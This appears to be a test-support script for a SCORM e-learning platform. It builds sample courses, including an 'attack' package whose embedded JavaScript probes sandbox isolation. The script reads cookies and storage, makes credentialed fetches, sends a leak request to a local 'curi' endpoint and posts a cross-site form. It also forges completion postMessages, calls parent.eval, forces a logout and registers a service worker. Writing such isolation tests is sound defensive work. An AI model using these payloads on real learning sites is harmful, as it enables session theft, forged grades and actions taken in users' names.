"""Courses of the sample packages and of one that attacks, on a running site: python -m tests.support.sample_courses.

Prints {name: [course, lesson]} as JSON. Runs in the site's own environment, beside its server.
"""

import io
import json
import sys

from bina.app import create_app
from bina.config import from_environment
from bina.db import transaction
from bina.demo.people import cast
from courses.packages import operations as packages
from tests.support.packages import SAMPLES, a_manifest, a_package_course, an_archive

ATTACK = """<!doctype html><title>Serangan</title><body><ol id="told"></ol><script>
const home = HOME;
const told = (name, what) => { const row = document.createElement("li"); row.id = name;
  row.textContent = String(what); document.getElementById("told").append(row); };
const attempt = async (name, deed) => { try { told(name, await deed()); } catch (fault) { told(name, "ditolak: " + fault.name); } };
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => Object.keys(localStorage).join());
  await attempt("top-document", () => top.document.title);
  await attempt("top-storage", () => Object.keys(top.localStorage).join());
  await attempt("read", async () => (await (await fetch(home + "/kursus/saya", { credentials: "include" })).text()).slice(0, 80));
  await attempt("read-here", async () => (await (await fetch("/kursus/saya", { credentials: "include" })).text()).slice(0, 80));
  await attempt("leak", () => fetch("http://127.0.0.1:9/curi?x=1", { mode: "no-cors" }));
  await attempt("write", async () => (await fetch(home + "/akun/bahasa", { method: "POST", credentials: "include", mode: "no-cors",
    headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "language=en" })).type);
  for (const key of ["", "undefined", "x".repeat(24)])
    for (const where of [top, parent])
      where.postMessage({ bina: "said", key, said: { "cmi.core.lesson_status": "passed" }, ended: true, urgent: true, request: "exitAll" }, "*");
  top.postMessage({ bina: "left" }, "*");
  parent.eval("parent.postMessage({bina: 'said', key: 'palsu', said: {'cmi.core.lesson_status': 'passed'}, ended: true, urgent: true}, '*')");
  await attempt("top-navigation", () => { top.location = home + "/akun/keluar"; return "diminta"; });
  await attempt("worker", () => navigator.serviceWorker.register("/paket/sw.js").then(() => "terpasang"));
  told("end", "selesai");
})();
</script>"""


#: a part of SCORM 2004 that ends itself and asks to go on
ENDING = """<!doctype html><title>Bagian</title><h1>TITLE</h1><button id="end">Akhiri</button><script>
const find = (win) => win.API_1484_11 ?? (win.parent === win ? null : find(win.parent));
const api = find(window);
api.Initialize("");
document.getElementById("end").onclick = () => {
  api.SetValue("cmi.completion_status", "completed");
  api.SetValue("cmi.success_status", "passed");
  api.SetValue("adl.nav.request", "REQUEST");
  api.Terminate("");
};
</script>"""


def ending_parts() -> io.BytesIO:
    """Two parts; the first brings its own Next, the second ends everything."""
    own = "<presentation><navigationInterface><hideLMSUI>continue</hideLMSUI></navigationInterface></presentation>"
    items = "".join(
        f'<item identifier="i{n}" identifierref="r{n}"><title>Bagian {n}</title>{own if n == 1 else ""}</item>'
        for n in (1, 2)
    )
    resources = "".join(f'<resource identifier="r{n}" scormType="sco" href="{n}.html"/>' for n in (1, 2))
    flow = '<sequencing><controlMode choice="true" flow="true"/></sequencing>'
    pages = {
        f"{n}.html": ENDING.replace("TITLE", f"Bagian ke-{n}").replace("REQUEST", request)
        for n, request in ((1, "continue"), (2, "exitAll"))
    }
    return an_archive(pages, a_manifest(items, resources, version="2004 4th Edition", sequencing=flow))


def main() -> None:
    """Make the courses."""
    settings = from_environment()
    app = create_app(settings)
    made: dict[str, list[int]] = {}
    with app.app_context(), transaction():
        author = cast("surakarta").instructor
        archives = {path.stem: io.BytesIO(path.read_bytes()) for path in sorted(SAMPLES.glob("*.zip"))}
        archives["attack"] = an_archive({"index.html": ATTACK.replace("HOME", json.dumps(settings.base_url))})
        archives["ending"] = ending_parts()
        for name, archive in archives.items():
            package = packages.bring(archive, f"{name}.zip", by=author)
            packages.unpack(package)
            version, lesson = a_package_course(author, package, f"Pelatihan contoh {package.id}")
            made[name] = [version.course_id, lesson.id]
    json.dump(made, sys.stdout)


if __name__ == "__main__":
    main()
